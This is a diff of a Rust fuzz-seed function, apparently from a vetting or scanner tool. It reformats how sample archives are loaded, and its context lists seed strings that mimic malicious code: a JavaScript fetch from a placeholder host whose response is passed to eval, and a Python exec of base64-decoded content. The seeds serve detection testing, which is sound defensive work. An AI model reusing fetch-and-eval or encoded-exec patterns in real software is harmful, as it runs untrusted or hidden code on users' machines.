@@ -48,7 +48,9 @@ const LIMITS: Limits = Limits {
 };
 
 fn seeds() -> Vec<Vec<u8>> {
-    let archives = real_files(&["vet/sample/lures", "vet/sample/twins"]).into_iter().map(|file| [&[0][..], &file].concat());
+    let archives = real_files(&["vet/sample/lures", "vet/sample/twins"])
+        .into_iter()
+        .map(|file| [&[0][..], &file].concat());
     let texts = [
         (1, "fetch('https://a.invalid').then(r => r.text()).then(eval)"),
         (3, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
